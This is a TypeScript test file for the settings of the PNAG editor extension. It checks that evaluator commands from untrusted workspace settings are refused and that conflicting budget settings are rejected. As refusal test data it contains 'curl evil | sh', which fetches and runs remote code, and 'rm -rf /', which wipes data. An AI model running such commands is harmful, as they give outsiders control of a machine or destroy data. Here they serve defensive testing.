import test from 'node:test';
import assert from 'node:assert/strict';
import { InputError } from '../../../../src/core/errors';
import { type PnagSettings, accuracySpecOf, checkEvaluationBudgetSettings, trainOptionsOf, trustedEvaluatorCommand } from '../../../../src/extension/settings/pnagSettings';

test('a trusted workspace runs the evaluator command from its own settings', () => {
  const evaluator = trustedEvaluatorCommand({ globalValue: 'python user.py', workspaceValue: 'python ws.py' }, true);
  assert.equal(accuracySpecOf('evaluator', evaluator), 'eval:python ws.py');
});

test('an untrusted workspace never runs the evaluator command from its workspace settings', () => {
  const evaluator = trustedEvaluatorCommand({ workspaceValue: 'curl evil | sh' }, false);
  assert.equal(evaluator.command, undefined);
  assert.throws(() => accuracySpecOf('evaluator', evaluator), (error: unknown) => {
    assert.ok(error instanceof InputError);
    assert.match(error.message, /not trusted/);
    assert.match(error.message, /curl evil \| sh/);
    return true;
  });
  // A folder-level value is the workspace's too.
  assert.equal(trustedEvaluatorCommand({ workspaceFolderValue: 'x' }, false).command, undefined);
});

test('an untrusted workspace may still use the command from the user settings', () => {
  const evaluator = trustedEvaluatorCommand({ globalValue: 'python user.py', workspaceValue: 'python ws.py' }, false);
  assert.equal(accuracySpecOf('evaluator', evaluator), 'eval:python user.py');
});

test('eval: written into pnag.accuracySource is refused, so commands come only from the restricted setting', () => {
  assert.throws(() => accuracySpecOf('eval:rm -rf /', {}), /pnag\.evaluatorCommand/);
});

test('auto means the engine defaults; the other forms pass through; anything else is named', () => {
  assert.equal(accuracySpecOf('auto', {}), undefined);
  assert.equal(accuracySpecOf('', {}), undefined);
  assert.equal(accuracySpecOf('proxy:naswot', {}), 'proxy:naswot');
  assert.equal(accuracySpecOf('archive:.pnag/archive.jsonl', {}), 'archive:.pnag/archive.jsonl');
  assert.equal(accuracySpecOf('ofa', {}), 'ofa', 'the predictor shipped with PNAG');
  assert.throws(() => accuracySpecOf('oracle', {}), /"oracle" is not one of auto, ofa, ofa:<path>/);
  assert.throws(() => accuracySpecOf('evaluator', {}), /pnag\.evaluatorCommand is empty/);
});

test('pnag.frontierQueries: empty leaves the engine its default, a number (0 included) is sent as set', () => {
  const settings: PnagSettings = {
    costModel: 'madds', accuracySource: 'auto', width: 1.2, resolution: 224, budgets: '', k: 10, trainingSteps: 300,
    evaluatorEpochs: 6, archiveSize: 0, frontierQueries: null, evaluations: null, forgetFailures: false, asynchronousRounds: false, seed: 0,
    bestOf: 64, sourceQueries: 0,
    pythonInsertion: 'setActiveSubnet', jsonInsertion: 'networkConfig', backend: 'auto',
  };
  assert.equal('frontierQueries' in trainOptionsOf(settings, undefined), false);
  assert.equal(trainOptionsOf({ ...settings, frontierQueries: 0 }, undefined).frontierQueries, 0);
  assert.equal(trainOptionsOf({ ...settings, frontierQueries: 2000 }, undefined).frontierQueries, 2000);
  assert.equal('forgetFailures' in trainOptionsOf(settings, undefined), false);
  assert.equal(trainOptionsOf({ ...settings, forgetFailures: true }, undefined).forgetFailures, true);
  // Only an evaluator's evaluation budget has asynchronous rounds: with another source the setting is not sent (the engine would refuse it).
  assert.equal('asynchronousRounds' in trainOptionsOf({ ...settings, asynchronousRounds: true }, 'ofa'), false);
  assert.equal(trainOptionsOf({ ...settings, asynchronousRounds: true }, 'eval:python eval.py').asynchronousRounds, true);
  assert.equal('asynchronousRounds' in trainOptionsOf(settings, 'eval:python eval.py'), false);
});

test('pnag.evaluations with pnag.archiveSize or pnag.frontierQueries set is refused, naming the settings to clear', () => {
  type BudgetSettings = Parameters<typeof checkEvaluationBudgetSettings>[0];
  const budget: BudgetSettings = { evaluations: 48, archiveSize: 0, frontierQueries: null };
  assert.doesNotThrow(() => checkEvaluationBudgetSettings(budget));
  assert.doesNotThrow(() => checkEvaluationBudgetSettings({ evaluations: null, archiveSize: 120, frontierQueries: 0 }), 'no budget, no conflict');
  const refused = (settings: BudgetSettings, pattern: RegExp) =>
    assert.throws(() => checkEvaluationBudgetSettings(settings), (error: unknown) => {
      assert.ok(error instanceof InputError);
      assert.match(error.message, pattern);
      assert.doesNotMatch(error.message, /--/, 'a settings user is not told about CLI flags');
      return true;
    });
  refused({ ...budget, archiveSize: 120 }, /^pnag\.evaluations \(48\) .*set pnag\.archiveSize \(120\) to 0, or leave pnag\.evaluations empty$/);
  refused({ ...budget, frontierQueries: 0 }, /set pnag\.frontierQueries \(0\) empty/);
  refused({ ...budget, archiveSize: 120, frontierQueries: 2000 }, /pnag\.archiveSize \(120\) to 0 and pnag\.frontierQueries \(2000\) empty/);
});
